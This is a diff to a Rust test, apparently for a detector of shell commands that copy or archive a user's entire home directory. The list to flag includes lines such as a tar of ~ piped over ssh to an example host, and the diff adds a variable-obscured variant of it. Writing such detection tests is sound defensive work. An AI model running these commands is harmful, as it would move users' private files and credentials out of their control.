@@ -455,6 +455,7 @@ fn doorwards_directory_by_ways_round() {
             "cp -r ~/. /tmp/x",
             "cp -a /home/dev /tmp/x",
             "tar czf - -C ~ . | ssh host.example.test cat",
+            "from=~; tar czf /tmp/x.tgz -C \"$from\" .",
             "restic backup ~",
             "git --work-tree=/home/dev add -A",
             "zip -r /tmp/x.zip ~",
@@ -484,6 +485,7 @@ fn doorwards_directory_by_ways_round() {
         &[
             "cp -r templates ~/",
             "tar xzf node.tgz -C ~",
+            "from=$1; tar -czf backup.tgz -C \"$from\" .",
             "rsync -av dist/ ~/site/",
             "du -sh ~/.[a-z]*",
             "ls -d ~/.*",
